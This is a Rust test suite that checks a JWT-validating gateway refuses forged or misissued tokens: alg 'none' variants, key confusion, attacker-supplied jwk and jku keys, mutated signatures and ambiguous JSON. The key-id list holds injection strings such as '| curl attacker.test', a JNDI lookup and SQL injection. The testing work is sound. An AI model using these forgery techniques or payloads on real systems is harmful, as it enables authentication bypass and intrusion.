//! Forged tokens, and tokens that were issued for something else.

use aws_lc_rs::{
    hmac,
    rand::SystemRandom,
    rsa::{KeyPair, KeySize},
    signature::{KeyPair as _, RSA_PKCS1_SHA256, RSA_PSS_SHA256, RsaEncoding},
};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use crate::attacked_gateway::{AttackedGateway, Seen, part};

/// DER encoded as PEM.
pub(crate) fn armoured(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<_> = text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

fn hmac_signed(algorithm: hmac::Algorithm, secret: &[u8], message: &str) -> String {
    format!("{message}.{}", part(hmac::sign(&hmac::Key::new(algorithm, secret), message.as_bytes())))
}

/// The attacker's own key.
struct Own(KeyPair);

impl Own {
    fn signs(&self, encoding: &'static dyn RsaEncoding, message: &str) -> String {
        let mut signature = vec![0; self.0.public_modulus_len()];
        self.0.sign(encoding, &SystemRandom::new(), message.as_bytes(), &mut signature).unwrap();
        format!("{message}.{}", part(&signature))
    }

    fn jwk(&self, kid: &Value) -> Value {
        let public = self.0.public_key();
        let number = |bytes: &[u8]| part(bytes);
        json!({"kty": "RSA", "use": "sig", "alg": "RS256", "kid": kid,
            "n": number(public.modulus().big_endian_without_leading_zero()),
            "e": number(public.exponent().big_endian_without_leading_zero())})
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_without_a_signature_proves_nothing_however_none_is_spelt() {
    let attacked = AttackedGateway::start().await;
    let seen = attacked.seen().await;
    let [_, payload, signature] = &seen.parts;
    let spellings =
        ["none", "None", "NONE", "nOnE", "noNE", "none ", " none", "none\0", "n\u{f6}ne", "", "null", "NULL"];
    let spellings = spellings.map(|name| json!(name)).into_iter().chain([
        json!(["none"]),
        json!({"alg": "none"}),
        json!(0),
        json!(true),
        json!([]),
        Value::Null,
    ]);
    for alg in spellings {
        let header = seen.header_with(&json!({ "alg": alg }));
        for signature in ["", "AA", "bm9uZQ", signature] {
            attacked.refused(&format!("{header}.{payload}.{signature}")).await;
        }
        attacked.refused(&format!("{header}.{payload}")).await;
        attacked.refused(&format!("{header}..{payload}")).await;
    }
    attacked.end("tokens without a signature").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_issuers_public_key_and_well_known_words_are_no_secrets_to_sign_with() {
    let attacked = AttackedGateway::start().await;
    let seen = attacked.seen().await;
    let words =
        ["secret", "...", "12345", "password", "hs256", "your-256-bit-secret", "changeme", "key", "jwt", "test"];
    let secrets = seen.public().into_iter().chain(words.map(|word| word.as_bytes().to_vec()));
    let hashes = [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)];
    for secret in secrets {
        for (name, hash) in hashes {
            for alg in [name, &name.to_lowercase(), "RS256", "ES256", "EdDSA"] {
                let message = format!("{}.{}", seen.header_with(&json!({ "alg": alg })), seen.parts[1]);
                attacked.refused(&hmac_signed(hash, &secret, &message)).await;
            }
        }
    }
    attacked.end("public key and words as shared secrets").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_or_an_address_that_the_token_brings_along_is_not_used() {
    let attacked = AttackedGateway::start().await;
    let seen = attacked.seen().await;
    let own = Own(KeyPair::generate(KeySize::Rsa2048).unwrap());
    let (kid, trap) = (&seen.header["kid"], attacked.trap());
    let address = |path: &str| json!(format!("{trap}/{path}"));
    let ours = |alg: &str| json!({ "alg": alg });
    let mut headers = vec![
        json!({}),
        json!({"jwk": own.jwk(kid)}),
        json!({"jwk": own.jwk(kid), "kid": "attacker"}),
        json!({"jwk": own.jwk(kid), "kid": null}),
        json!({"jku": address("keys"), "kid": "attacker"}),
        json!({"jku": address("keys")}),
        json!({"x5u": address("chain")}),
        json!({"x5c": [STANDARD.encode("not a certificate")], "x5t": "AAAA", "x5t#S256": "AAAA"}),
        json!({"jku": address("keys"), "x5u": address("chain"), "iss": trap, "kid": address("keys")}),
    ];
    // A key id is looked up in the key set and nowhere else.
    let ids = [
        "../../dev/null",
        "/dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "C:\\Windows\\win.ini",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "; DROP TABLE operations; --",
        "| sleep 10",
        "| curl attacker.test",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://attacker.test/x}",
        "%00",
        "a\u{0}b",
        "../jwks.json",
        "a b",
        "",
        "null",
        "\u{202e}dik",
        "ldap://attacker.test",
        "0",
        "-1",
        "*",
        "__proto__",
        "constructor",
    ];
    headers.extend(ids.map(|id| json!({ "kid": id })));
    headers.extend([json!({"kid": 7}), json!({"kid": [kid]}), json!({"kid": {"kid": kid}}), json!({"kid": true})]);
    for header in headers {
        let message = format!("{}.{}", seen.header_with(&header), seen.claims_with(&json!({"jku": address("c")})));
        attacked.refused(&own.signs(&RSA_PKCS1_SHA256, &message)).await;
        attacked.refused(&hmac_signed(hmac::HMAC_SHA256, b"", &message)).await;
    }
    for alg in ["PS256", "RS384", "ES256", "EdDSA"] {
        let message = format!("{}.{}", seen.header_with(&ours(alg)), seen.parts[1]);
        attacked.refused(&own.signs(&RSA_PSS_SHA256, &message)).await;
        attacked.refused(&format!("{message}.{}", seen.parts[2])).await;
    }
    attacked.end("keys and addresses that tokens bring along").await;
}

/// Alternatives to a valid signature.
fn signatures(good: &str) -> Vec<String> {
    let half = good.len() / 2;
    let mut others = vec![
        String::new(),
        good[..half].to_owned(),
        good[1..].to_owned(),
        format!("{good}="),
        format!("{good}=="),
        format!("{good}A"),
        format!("{good}."),
        format!("{good}.{good}"),
        format!("A{good}"),
        good.to_lowercase(),
        good.chars().rev().collect(),
        format!("{good}%00"),
        part([0; 256]),
        part([0xff; 256]),
        part([0; 64]),
        part([1; 64]),
        // Zero as r and s, in DER.
        part([0x30, 6, 2, 1, 0, 2, 1, 0]),
        part([]),
        "AA".to_owned(),
    ];
    for place in (0..good.len()).step_by(11) {
        let other = if good.as_bytes()[place] == b'A' { 'B' } else { 'A' };
        others.push(format!("{}{other}{}", &good[..place], &good[place + 1..]));
    }
    // The last base64 letter of 256 bytes has unused bits.
    let unused = "BCDEFGHIJKLMNOPRSTUVWXYZabcdefhijklmnopqrstuvxyz0123456789-_".chars();
    let last = good.chars().last().unwrap();
    others.extend(unused.filter(|letter| *letter != last).map(|letter| format!("{}{letter}", &good[..good.len() - 1])));
    others
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_other_signature_fits_and_a_good_one_fits_nothing_else() {
    let attacked = AttackedGateway::start().await;
    let seen = attacked.seen().await;
    let [header, payload, signature] = &seen.parts;
    for other in signatures(signature) {
        attacked.refused(&format!("{header}.{payload}.{other}")).await;
    }
    for claims in [
        json!({"azp": "c0000000-0000-4000-8000-000000000002"}),
        json!({"exp": 4_102_444_800_u64}),
        json!({"roles": ["Assignments.Everything"]}),
        json!({"sub": "root"}),
        json!({"added": 1}),
    ] {
        attacked.refused(&format!("{header}.{}.{signature}", seen.claims_with(&claims))).await;
    }
    let portal = attacked.world.token("portal").await;
    let theirs = portal.rsplit_once('.').unwrap().1;
    attacked.refused(&format!("{header}.{payload}.{theirs}")).await;
    attacked.end("signatures that do not fit").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_that_parsers_could_read_differently_are_rejected() {
    let attacked = AttackedGateway::start().await;
    let seen = attacked.seen().await;
    let [header, payload, signature] = &seen.parts;
    let (claims, kid) = (seen.claims.to_string(), seen.header["kid"].as_str().unwrap());
    let inner = &claims[1..claims.len() - 1];
    for text in [
        format!("{{{inner},{inner}}}"),
        format!("{{{inner},\"sub\":\"root\"}}"),
        format!("{{{inner},\"\\u0073ub\":\"root\"}}"),
        format!("{{\"azp\":\"x\",{inner}}}"),
        format!("{claims}{claims}"),
        format!("{claims} x"),
        format!("\u{feff}{claims}"),
        format!("[{claims}]"),
        format!("{{{inner},\"x\":{}{}}}", "[".repeat(3_000), "]".repeat(3_000)),
        format!("{{{inner},\"x\":{}1{}}}", "{\"a\":".repeat(1_000), "}".repeat(1_000)),
        format!("{{{inner},\"x\":1e999}}"),
        format!("{{{inner},\"x\":\"{}\"}}", "a".repeat(17_000)),
        format!("{{{inner},}}"),
        format!("{{{inner}"),
        format!("{{{inner},\"x\":NaN}}"),
        format!("{{{inner},\"x\":\"\\ud800\"}}"),
        "null".to_owned(),
        "\"\"".to_owned(),
        String::new(),
    ] {
        attacked.refused(&format!("{header}.{}.{signature}", part(text))).await;
    }
    for text in [
        format!("{{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"{kid}\"}}"),
        format!("{{\"alg\":\"RS256\",\"alg\":\"none\",\"kid\":\"{kid}\"}}"),
        format!("{{\"alg\":\"RS256\",\"\\u0061lg\":\"none\",\"kid\":\"{kid}\"}}"),
        format!("{{\"alg\":\"RS256\",\"kid\":\"x\",\"kid\":\"{kid}\"}}"),
        format!("{{\"alg\":\"RS256\",\"kid\":\"{kid}\",\"b64\":false,\"crit\":[\"b64\"]}}"),
        format!("{{\"alg\":\"RS256\",\"kid\":\"{kid}\",\"zip\":\"DEF\",\"enc\":\"A256GCM\"}} {{}}"),
    ] {
        attacked.refused(&format!("{}.{payload}.{signature}", part(text))).await;
    }
    let good = seen.parts.join(".");
    for token in [
        part(&good),
        format!("{good} "),
        format!("{good},{good}"),
        format!("{good}, Bearer {good}"),
        format!("\"{good}\""),
        good.replace('.', "%2e"),
        good.replace('.', ".."),
        good.replace('-', "+").replace('_', "/") + "=",
        format!("{header}.{payload}.{signature}.{payload}.{signature}"),
        format!("{}.{}", part("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}"), "....".trim_end_matches('.')),
        format!("{}....{signature}", part("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\"}")),
        json!({"payload": payload, "protected": header, "signature": signature}).to_string(),
        json!({"payload": payload, "signatures": [{"protected": header, "signature": signature}]}).to_string(),
        "\u{e4}".repeat(20),
        "a".repeat(60_000),
        format!("{header}.{}.{signature}", "A".repeat(60_000)),
    ] {
        if token.trim() == good {
            continue;
        }
        attacked.refused(&token).await;
    }
    attacked.end("tokens that can be read in two ways").await;
}

/// Times and token kinds with which even the issuer's own signature must be rejected.
fn wrong_times(now: i64) -> Vec<Value> {
    vec![
        json!({"exp": now - 60}),
        json!({"exp": 0}),
        json!({"exp": -1}),
        json!({"exp": null}),
        json!({"exp": "never"}),
        json!({"exp": [now + 60]}),
        json!({"exp": {}}),
        json!({"exp": true}),
        json!({"exp": 1e300}),
        json!({"exp": u64::MAX}),
        json!({"exp": (now + 60).to_string()}),
        json!({"nbf": now + 600}),
        json!({"nbf": "now"}),
        json!({"nbf": 1e300}),
        json!({"nbf": []}),
        json!({"iat": now + 600}),
        json!({"iat": now + 999_999_999}),
        json!({"iat": -1}),
        json!({"iat": "x"}),
    ]
}

/// Parties with which it must be rejected.
fn wrong_parties(root: &str) -> Vec<Value> {
    vec![
        json!({"aud": null}),
        json!({"aud": ""}),
        json!({"aud": []}),
        json!({"aud": {}}),
        json!({"aud": 7}),
        json!({"aud": true}),
        json!({"aud": "api://other"}),
        json!({"aud": "API://POSTERN"}),
        json!({"aud": "api://postern/"}),
        json!({"aud": "api://postern "}),
        json!({"aud": ["api://postern", 7]}),
        json!({"aud": [["api://postern"]]}),
        json!({"aud": ["api://a", "api://b"]}),
        json!({"aud": "*"}),
        json!({"aud": "00000003-0000-0000-c000-000000000000"}),
        json!({"aud": "https://graph.microsoft.com"}),
        json!({"iss": null}),
        json!({"iss": ""}),
        json!({"iss": [format!("{root}/issuer")]}),
        json!({"iss": format!("{root}/issuer/")}),
        json!({"iss": format!("{root}/ISSUER")}),
        json!({"iss": format!("{root}/issuer#x")}),
        json!({"iss": format!("{root}/issuer?x")}),
        json!({"iss": format!(" {root}/issuer")}),
        json!({"iss": "https://login.microsoftonline.com/common/v2.0"}),
        json!({"sub": null}),
        json!({"sub": ""}),
        json!({"sub": 7}),
        json!({"sub": ["x"]}),
        json!({"sub": "a\u{0}b"}),
        json!({"sub": "a\nb"}),
        json!({"azp": 7}),
        json!({"azp": ""}),
        json!({"azp": ["x"]}),
        json!({"azp": "a\nb"}),
        json!({"appid": "c0000000-0000-4000-8000-000000000002"}),
        json!({"client_id": "other"}),
        json!({"roles": "Assignments.Change"}),
        json!({"roles": [7]}),
        json!({"roles": {"a": 1}}),
        json!({"scp": ["a", 1]}),
        json!({"scp": {"a": true}}),
        json!({"scope": 7}),
        json!({"jti": 7}),
        json!({"jti": ""}),
        json!({"jti": "a\u{7}"}),
        json!({"at_hash": "x"}),
        json!({"c_hash": "x"}),
        json!({"events": {}}),
    ]
}

/// Header members with which it must be rejected.
fn wrong_headers() -> Vec<Value> {
    vec![
        json!({"typ": "JOSE"}),
        json!({"typ": "id+jwt"}),
        json!({"typ": "logout+jwt"}),
        json!({"typ": "dpop+jwt"}),
        json!({"typ": "secevent+jwt"}),
        json!({"typ": "at+jwt+x"}),
        json!({"typ": 7}),
        json!({"typ": ["JWT"]}),
        json!({"typ": ""}),
        json!({"crit": []}),
        json!({"crit": ["exp"]}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"crit": "x"}),
        json!({"kid": null}),
        json!({"kid": ""}),
        json!({"kid": "other"}),
        json!({"kid": 7}),
        json!({"alg": "RS384"}),
        json!({"alg": "PS256"}),
        json!({"alg": "ES256"}),
        json!({"alg": "EdDSA"}),
        json!({"alg": "HS256"}),
        json!({"alg": "none"}),
        json!({"alg": null}),
        json!({"alg": "rs256"}),
        json!({"alg": "RS256 "}),
        json!({"alg": ["RS256"]}),
        json!({"alg": "RSA-OAEP"}),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signature_alone_is_not_enough() {
    let attacked = AttackedGateway::start().await;
    let Seen { claims, .. } = attacked.seen().await;
    let now = claims["iat"].as_i64().unwrap();
    for claims in wrong_times(now).into_iter().chain(wrong_parties(attacked.world.sandbox.url())) {
        attacked.refused(&attacked.world.forge("servicenow", claims, json!({})).await).await;
    }
    for header in wrong_headers() {
        attacked.refused(&attacked.world.forge("servicenow", json!({}), header).await).await;
    }
    attacked.end("issued tokens that are not for us or not for now").await;
}
